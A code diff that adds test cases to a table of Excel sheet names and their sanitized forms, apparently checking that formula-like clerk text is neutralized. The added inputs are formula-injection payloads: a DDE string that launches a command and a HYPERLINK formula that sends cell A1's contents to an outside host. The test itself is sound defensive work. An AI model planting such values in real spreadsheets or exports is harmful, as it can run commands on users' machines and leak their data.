@@ -326,6 +326,11 @@ SHEET_NAMES = [
      "株洲市信息资源共享交换平台+“四级联动”信创工程项目（二期）运"),  # Excel's 31-character limit
     ("项目1",                                        "项目1(2)"),  # taken by the blank sheet
     ("history",                                      "history(2)"),  # reserved by Excel
+    # clerk text that looks like a formula: the sheet name (which our formulas quote) never does
+    ("=cmd|' /C calc'!A0",                           "cmd｜’ _C calc’！A0"),
+    ('=HYPERLINK("http://x.cn/?"&A1,"点我")',        "HYPERLINK（”http___x.cn__”＆A1，”点我”）"[:31]),
+    ("\t=2+2",                                       "2+2"),
+    ("@SUM(1)",                                      "SUM（1）"),
 ]
 
 
